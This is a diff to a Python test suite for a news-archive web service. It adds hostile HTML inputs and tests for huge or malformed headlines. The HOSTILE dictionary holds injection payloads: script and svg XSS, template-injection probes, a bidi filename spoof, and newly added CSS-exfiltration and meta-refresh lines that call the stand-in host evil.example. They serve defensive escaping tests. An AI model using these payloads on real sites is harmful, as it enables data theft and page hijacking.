@@ -29,6 +29,8 @@ HOSTILE = {
     "comment": "--><script>alert(1)</script><!--",
     "title": "</title></textarea></style></pre><script>alert(1)</script>",
     "svg": "<svg/onload=alert(1)><base href=//evil.example>",
+    "css": "<style>@import '//evil.example/a';input[value^=a]{background:url(//evil.example/b)}</style>",
+    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
     "template": "{{ 7 * 191 }}{% raw %}${7*191}",
     "bidi": "safe\u202egpj.exe\u2066 \u061cx\u2067",
     "long": "Donaudampfschiff" * 2_000,
@@ -119,6 +121,36 @@ def test_text_of_pages_is_shown_as_text(desk: httpx.Client, archive: Archive) ->
     for name in ("script", "image", "attribute", "javascript", "template", "svg"):
         assert f"{HOSTILE[name]} twice" in shown
     assert "1337" not in shown
+
+
+def test_the_longest_headline_that_is_read_and_broken_bytes_are_text_too(
+    desk: httpx.Client, archive: Archive
+) -> None:
+    long = "Donau <b>dampf</b> " * 14_000
+    for batch, more in (("20261122T1200Z", "once"), ("20261122T1300Z", "twice")):
+        broken = page(2, headline=f"BROKEN <b>{more}", body=[*text(2), f"BROKEN {more}"])
+        payload = broken.html.encode().replace(b"BROKEN", b"\xff\xfe\xc3(\xed\xa0\x80")
+        refined(archive, batch, page(1, headline=escape(f"{long}{more}")), replace(broken, payload=payload))
+    shown = {address: desk.get(address) for address in pages(archive)}
+    assert sum("?text=2&before=1" in address for address in shown) == 2, "both have two texts"
+    for answer in shown.values():
+        check(answer)
+    feed = desk.get("/search.atom?outlet=gazette")
+    assert feed.status_code == 200
+    assert "<b>" not in feed.text
+
+
+def test_a_headline_of_five_megabytes_is_kept_as_it_came_and_not_read(
+    desk: httpx.Client, archive: Archive
+) -> None:
+    refined(archive, "20261122T1200Z", page(1, headline="<b>" * 1_700_000), page(2))
+    assert [each.state for each in archive.catalog.filed()] == [State.ARCHIVED]
+    for address in pages(archive):
+        check(desk.get(address))
+    replays = re.findall(r'href="(/replays/[^"]+)"', desk.get("/batches/gazette/20261122T1200Z").text)
+    assert len(replays) == 2
+    drawn = {desk.get(f"{replay}/page").status_code for replay in replays}
+    assert drawn == {200, 404}, "that of the article, and that it cannot be drawn"
 
 
 def listed(archive: Archive, words: Iterable[str]) -> str:
